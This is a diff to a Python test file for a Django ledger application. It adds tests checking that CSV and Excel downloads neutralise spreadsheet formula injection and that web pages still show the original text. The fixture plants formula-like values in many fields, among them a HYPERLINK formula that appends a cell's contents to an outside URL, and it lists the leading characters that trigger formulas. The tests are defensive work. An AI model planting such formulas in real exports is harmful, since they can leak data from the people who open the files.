@@ -4,6 +4,7 @@ import io
 import zipfile
 from datetime import date
 from decimal import Decimal
+from html import unescape
 
 import pytest
 from django.db.models import Value
@@ -13,11 +14,14 @@ from hypothesis import strategies as st
 
 from carsi_tracker.ledger import posting
 from carsi_tracker.ledger.formulas import escaped, unescaped
-from carsi_tracker.ledger.models import Batch, Entry, Line, Posting
-from carsi_tracker.reports.downloads.fields import Neutralised
+from carsi_tracker.ledger.models import Batch, Commitment, Entry, Line, Posting, Stage
+from carsi_tracker.reports.downloads.downloads import TABLES
+from carsi_tracker.reports.downloads.fields import Holds, Neutralised
 from tests import factories
 from tests.imports.conftest import Way, case
-from tests.reports.downloads.files import body, rows, sheets
+from tests.reports.addresses import BOTH, answer
+from tests.reports.downloads.files import body, cells, rows, sheets
+from tests.sourced import NEXT
 
 pytestmark = pytest.mark.usefixtures("sourced")
 
@@ -103,3 +107,72 @@ def test_importing_a_download_gives_the_original_back(
     drafted = Line.objects.filter(batch=outcome.batch).order_by("pk").values_list(*compared)
     assert list(drafted) == list(posted)
     assert len(drafted) == 2
+
+
+FORMULA = '=HYPERLINK("http://example.org/?x="&A2,"open")'
+
+
+STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def formulas_everywhere() -> None:
+    """Post texts that a spreadsheet would compute, wherever people write any."""
+    analyst = factories.analyst(username="=ana", first_name="=Ana", last_name="@Alva")
+    approver = factories.approver(first_name="+Pat", last_name="-Poe")
+    made = factories.batch(analyst, title="=1+1", reason="@reason")
+    known = Commitment.objects.get(reference="CARSI-08-INCLE-03")
+    source = factories.document(
+        title=FORMULA, title_es="+504", publisher="-Publisher", note="@note", background=True
+    )
+    quoted = factories.document(title="'=1", publisher="''-1", note="'@", background=True)
+    new = factories.commitment(
+        made,
+        title="-2+3",
+        title_es="=SUMA(A1:A2)",
+        appropriation=known.appropriation,
+        area=factories.area(name_en="=Area", name_es="@Área"),
+        country=factories.country(name_en="+Country", name_es="-País"),
+        goal=factories.goal(name_en="=Goal", name_es="+Meta"),
+        agency=factories.organization(code="=Agency"),
+        partner=factories.organization(code="@Partner"),
+    )
+    texts_of_line = {"locator": "+1", "note": "-", "quote": "''=1"}
+    factories.line(made, new, Stage.COMMITTED, 10, document=source, **texts_of_line)
+    factories.line(made, new, Stage.OBLIGATED, 5, document=quoted)
+    factories.posted(made, approver)
+
+
+@pytest.mark.parametrize("language", BOTH)
+def test_no_text_of_any_file_is_a_formula_and_workbooks_have_the_original(
+    client: Client, formulas_everywhere: None, language: str
+) -> None:
+    for name, table in TABLES.items():
+        address = f"{language}/tables/{name}.xlsx"
+        held = sheets(client, address)[0]
+        written = cells(client, f"{language}/tables/{name}.csv")
+        for row, held_row in zip(written[1:], held[1:], strict=True):
+            for field, text, cell in zip(table.fields, row, held_row, strict=True):
+                if field.holds in {Holds.TEXT, Holds.CODE}:
+                    assert not text.startswith(STARTS), (name, field.name)
+                    assert unescaped(text) == as_text(cell), (name, field.name)
+        with zipfile.ZipFile(io.BytesIO(body(client.get(address)))) as parts:
+            for part in parts.namelist():
+                assert b"<f>" not in parts.read(part), part
+
+
+def test_pages_show_the_text_as_it_was_written(client: Client, formulas_everywhere: None) -> None:
+    for address, text in (
+        ("/documents/", FORMULA), ("/documents/", "-Publisher"), ("/changes/", "=1+1"),
+        (f"/changes/{NEXT}/", "@reason"), (f"/changes/{NEXT}/", "=Ana @Alva"),
+        ("/commitments/", "-2+3"),
+        ("/areas/", "=Area"), ("/es/countries/", "-País"), ("/feed/", "=1+1"),
+        (f"/entries/{NEXT}-1/", "''=1"),
+    ):  # fmt: skip
+        shown = unescape(answer(client, address)[1].decode())
+        assert text in shown, (address, text)
+        assert f"'{text}" not in shown, (address, text)
+
+
+def as_text(cell: object) -> str:
+    return str(int(cell)) if isinstance(cell, float) else str(cell)
